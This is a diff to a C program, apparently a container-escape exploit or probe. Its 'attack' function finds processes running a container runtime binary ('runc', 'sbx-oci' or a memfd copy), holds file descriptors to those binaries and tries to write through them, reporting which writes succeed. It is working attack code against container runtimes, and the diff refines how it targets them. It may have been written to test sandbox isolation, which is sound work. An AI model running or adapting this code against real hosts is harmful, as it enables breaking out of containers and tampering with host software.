@@ -63,8 +63,22 @@ static int attack(int pid, int *keep, int *n_keep)
 		return 0;
 	seen++;
 	int o = open(path, O_PATH | O_CLOEXEC);
-	if (o >= 0 && *n_keep < 64)
-		keep[(*n_keep)++] = o;
+	if (o >= 0) {
+		/* the process may have exec'd its program since the readlink:
+		 * keep the fd only if it is still the runtime's file */
+		char self[64], again[256];
+		snprintf(self, sizeof(self), "/proc/self/fd/%d", o);
+		ssize_t k = readlink(self, again, sizeof(again) - 1);
+		if (k > 0 && *n_keep < 64) {
+			again[k] = '\0';
+			if (strstr(again, "sbx-oci") || strstr(again, "runc") || strstr(again, "memfd"))
+				keep[(*n_keep)++] = o;
+			else
+				close(o);
+		} else {
+			close(o);
+		}
+	}
 	w = try_write(path, &open_res);
 	printf("target %d %s open=%s write=%s\n", pid, link, open_res, w);
 	fflush(stdout);
@@ -115,9 +129,13 @@ int main(int argc, char **argv)
 	for (int i = 0; i < n_keep; i++) {
 		char path[64];
 		const char *open_res, *w;
+		char link[256] = "";
 		snprintf(path, sizeof(path), "/proc/self/fd/%d", keep[i]);
+		ssize_t k = readlink(path, link, sizeof(link) - 1);
+		if (k > 0)
+			link[k] = '\0';
 		w = try_write(path, &open_res);
-		printf("reopen %d open=%s write=%s\n", i, open_res, w);
+		printf("reopen %d %s open=%s write=%s\n", i, link, open_res, w);
 	}
 	printf("seen %d wrote %d\n", seen, wrote);
 	return 0;
